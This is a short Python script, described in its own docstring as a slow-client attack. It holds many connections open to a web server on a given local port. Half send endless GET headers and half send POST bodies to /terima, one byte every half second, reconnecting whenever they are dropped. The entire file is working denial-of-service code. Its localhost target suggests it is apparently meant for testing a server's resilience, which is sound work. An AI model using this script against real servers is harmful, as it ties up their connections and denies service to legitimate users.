"""The slow-client attack: half send a head without end, half a body, one byte at a time; who is cut off comes again.

  slow_visitors.py PORT COUNT        until it is ended
"""
import asyncio, sys

PORT, COUNT = int(sys.argv[1]), int(sys.argv[2])
STARTS = [b'GET / HTTP/1.1\r\nHost: a\r\nX: ',
          b'POST /terima HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\na=']


async def visitor(number):
    while True:
        try:
            _, writer = await asyncio.open_connection('127.0.0.1', PORT)
            writer.write(STARTS[number % 2])
            while True:
                writer.write(b'x')
                await writer.drain()
                await asyncio.sleep(.5)
        except OSError:
            await asyncio.sleep(.05)


async def all_of_them():
    await asyncio.gather(*(visitor(n) for n in range(COUNT)))


asyncio.run(all_of_them())
